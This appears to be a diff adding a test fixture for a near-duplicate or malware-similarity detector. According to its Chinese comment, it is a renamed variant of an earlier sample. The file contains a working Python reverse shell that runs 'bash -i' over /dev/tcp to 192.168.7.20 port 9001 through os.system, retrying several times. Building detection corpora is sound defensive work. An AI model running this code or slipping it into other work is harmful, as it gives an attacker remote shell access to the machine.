@@ -0,0 +1,19 @@
+# 重命名变量并修改回连地址的变形样本，与01的字节码指纹相同
+# detect-expect: 'NearDuplicate': True
+import sys
+import os
+
+
+def connect_back(addr, p, n):
+    for i in range(n):
+        c = "bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'" % (addr, p)
+        if os.system(c) == 0:
+            return i
+    return -1
+
+
+if __name__ == "__main__":
+    v = len(sys.argv) > 1
+    r = connect_back("192.168.7.20", 9001, 5)
+    if v:
+        print("attempts", r)